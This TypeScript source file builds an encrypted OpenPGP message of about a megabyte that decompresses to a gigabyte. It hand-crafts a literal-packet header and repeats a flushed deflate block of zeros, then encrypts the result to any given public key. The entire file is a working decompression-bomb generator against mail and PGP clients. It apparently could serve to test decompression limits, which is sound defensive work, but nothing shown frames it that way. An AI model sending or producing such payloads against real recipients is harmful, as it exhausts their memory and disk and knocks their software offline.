/** A mail of one megabyte that unpacks to a gigabyte. */
import { constants, deflateRawSync } from 'node:zlib'

import { CompressedDataPacket, encrypt, Message, PacketList, readKey } from 'openpgp'

const gigabyte = 2 ** 30
const megabyte = 2 ** 20

export async function bombFor(publicKey: string): Promise<string> {
  const packet = new CompressedDataPacket()
  // Written as it is: the library itself would first have to hold the gigabyte.
  Object.assign(packet, { algorithm: 1, compressed: packed(literalOf(gigabyte)) })
  const packets = new PacketList<CompressedDataPacket>()
  packets.push(packet)
  return (await encrypt({
    message: new Message<Uint8Array>(packets),
    encryptionKeys: (await readKey({ armoredKey: publicKey })).toPublic()
  })) as string
}

/** The head of a literal packet that says how much follows. */
function literalOf(size: number): Buffer {
  const head = Buffer.from([0xcb, 0xff, 0, 0, 0, 0, 0x62, 0, 0, 0, 0, 0])
  head.writeUInt32BE(size + 6, 2)
  return head
}

/** Deflated once, then repeated: after a full flush a block stands on its own. */
function packed(head: Buffer): Buffer {
  const flush = { finishFlush: constants.Z_FULL_FLUSH, level: 9 }
  const zeros = deflateRawSync(Buffer.alloc(megabyte), flush)
  const blocks = Array.from({ length: gigabyte / megabyte }, () => zeros)
  return Buffer.concat([deflateRawSync(head, flush), ...blocks, Buffer.from([3, 0])])
}
